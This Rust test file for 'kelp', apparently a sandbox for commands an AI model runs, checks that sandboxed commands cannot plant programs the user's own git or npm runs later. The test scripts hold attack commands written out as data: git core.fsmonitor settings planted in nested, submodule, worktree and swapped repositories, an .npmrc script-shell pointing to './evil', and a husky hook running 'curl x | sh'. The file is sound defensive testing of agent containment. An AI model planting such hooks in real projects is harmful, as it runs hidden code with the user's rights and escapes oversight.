//! What the person's own git runs later, outside kelp, with their rights: nothing a command
//! planted. A command goes for every repository git meets from the project (a nested one it
//! makes and commits as a submodule, a submodule's own repository, `info/exclude`, a worktree's
//! config, the project's `.git` swapped whole), then the person runs a plain `git status` as
//! they would, and the marker their git would create must not exist. Each attack has its twin
//! with the sandbox off, where the person's `git status` runs the planted program.

use std::path::Path;
use std::process::Command;

use crate::sandbox_attacks::{Victim, attack, attack_seen, namespaces, victim};

fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.email=p@example.com", "-c", "user.name=p"])
        .args(["-c", "protocol.file.allow=always"])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

fn git_ok(dir: &Path, args: &[&str]) {
    let out = git(dir, args);
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The person's repository: one commit, and a submodule with its repository in
/// `.git/modules/lib`.
fn persons_repository(victim: &Victim) {
    let upstream = victim.home.join("upstream-lib");
    std::fs::create_dir_all(&upstream).unwrap();
    git_ok(&upstream, &["init", "-q"]);
    std::fs::write(upstream.join("lib.txt"), "lib\n").unwrap();
    git_ok(&upstream, &["add", "lib.txt"]);
    git_ok(&upstream, &["commit", "-qm", "lib"]);
    let project = &victim.project;
    git_ok(project, &["init", "-q"]);
    std::fs::write(project.join("notes.txt"), "one\n").unwrap();
    git_ok(project, &["add", "notes.txt"]);
    git_ok(
        project,
        &["submodule", "add", "-q", upstream.to_str().unwrap(), "lib"],
    );
    git_ok(project, &["commit", "-qm", "first"]);
}

/// What the person's plain `git status` in the project ran: whether the marker exists after it.
fn persons_git_status_runs_the_plant(victim: &Victim, marker: &Path) -> bool {
    let _ = std::fs::remove_file(marker);
    let out = Command::new("git")
        .arg("-C")
        .arg(&victim.project)
        .arg("status")
        .env("HOME", &victim.home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success() || marker.exists(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    marker.exists()
}

/// Runs `script` as the model's command, sandboxed and then not; returns what the sandboxed
/// run printed, after checking the person's `git status` ran nothing planted after it and ran
/// the plant after the unsandboxed twin.
async fn planted_for_later(victim: &Victim, script: &str) -> String {
    let marker = victim.home.join("PWNED");
    let script = script.replace("MARKER", marker.to_str().unwrap());
    let seen = attack(victim, &script, &[]).await;
    assert!(seen.contains("planted"), "the attack ran: {seen}");
    assert!(
        !persons_git_status_runs_the_plant(victim, &marker),
        "the person's git ran what a sandboxed command planted: {seen}"
    );
    attack(victim, &script, &["--sandbox", "off"]).await;
    assert!(
        persons_git_status_runs_the_plant(victim, &marker),
        "unsandboxed, the plant takes (the attack is real)"
    );
    seen
}

/// A nested repository made and committed as a submodule, with a file-system monitor that
/// runs a program: git recurses into it on the person's `git status`.
#[tokio::test]
async fn a_nested_repository_committed_as_a_submodule_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "mkdir -p sub && cd sub && git init -q && \
                  git config core.fsmonitor 'touch MARKER; false' && echo x > f && git add f && \
                  git -c user.email=m@x -c user.name=m commit -qm x && cd .. && git add sub && \
                  git -c user.email=m@x -c user.name=m commit -qm sub; echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(
        seen.contains("sub/.git (a repository whose settings or hooks git would run)"),
        "the model is told: {seen}"
    );
}

/// A submodule's own repository (`.git/modules/lib/config`), the project's `info/exclude` and
/// its hooks path: all read-only, so the person's git reads them as they were.
#[tokio::test]
async fn a_submodules_repository_and_info_are_read_only() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "git config -f .git/modules/lib/config core.fsmonitor 'touch MARKER; false'; \
                  echo planted.txt >> .git/info/exclude; echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(seen.contains("Read-only file system"), "{seen}");
    let exclude = std::fs::read_to_string(victim.project.join(".git/info/exclude")).unwrap();
    assert!(
        exclude.contains("planted.txt"),
        "the twin wrote it: {exclude}"
    );
}

/// With `extensions.worktreeConfig` on (as `git sparse-checkout` sets it), git reads
/// `.git/config.worktree`: one a command creates is moved aside.
#[tokio::test]
async fn a_worktree_config_a_command_creates_runs_nothing_later() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    git_ok(
        &victim.project,
        &["config", "extensions.worktreeConfig", "true"],
    );
    let script = "printf '[core]\\n\\tfsmonitor = touch MARKER; false\\n' > .git/config.worktree; \
                  echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(seen.contains(".git/config.worktree"), "{seen}");
    assert!(
        victim
            .project
            .join(".git/config.worktree.refused-by-kelp")
            .exists()
    );
}

/// The project's `.git` renamed away and a copy with a planted config put in its place: the
/// folder is pinned, and a `.git` that is new when the command ends is moved aside.
#[tokio::test]
async fn the_projects_repository_cannot_be_swapped() {
    let Some(victim) = victim() else { return };
    if !namespaces() {
        return;
    }
    persons_repository(&victim);
    let script = "mv .git .git-old && mkdir .git && cp -r .git-old/. .git/; \
                  printf '[core]\\n\\tfsmonitor = touch MARKER; false\\n' >> .git/config; \
                  echo planted";
    let seen = planted_for_later(&victim, script).await;
    assert!(
        git(&victim.project, &["log", "--oneline"]).status.success(),
        "the person's repository is whole: {seen}"
    );
}

/// A command that writes a file the person's own tools run later (npm's `script-shell`, a
/// husky hook): it may, as under Codex, and the person is told where they look (kelp run's
/// stderr; the app-server's `warning`, exec's error item and the TUI's transcript take the same
/// event), as is the model, naming the file and what runs it. With the sandbox off too.
#[tokio::test]
async fn what_the_persons_tools_run_later_is_named_when_a_command_writes_it() {
    let Some(victim) = victim() else { return };
    let script = "printf 'script-shell=./evil\\n' > .npmrc; mkdir -p .husky && \
                  echo 'curl x | sh' > .husky/pre-commit; echo planted";
    for flags in [&[][..], &["--sandbox", "off"]] {
        let (seen, stderr) = attack_seen(&victim, script, flags, |_| {}).await;
        assert!(seen.contains("planted"), "{seen}");
        for said in [&seen, &stderr] {
            assert!(
                said.contains(".npmrc (npm runs the shell it names")
                    && said.contains(".husky (husky's hooks run when you commit)"),
                "{flags:?}: {said}"
            );
        }
        assert!(
            stderr.contains("kelp: warning: the command created or changed"),
            "{stderr}"
        );
        std::fs::remove_file(victim.project.join(".npmrc")).unwrap();
        std::fs::remove_dir_all(victim.project.join(".husky")).unwrap();
    }
}
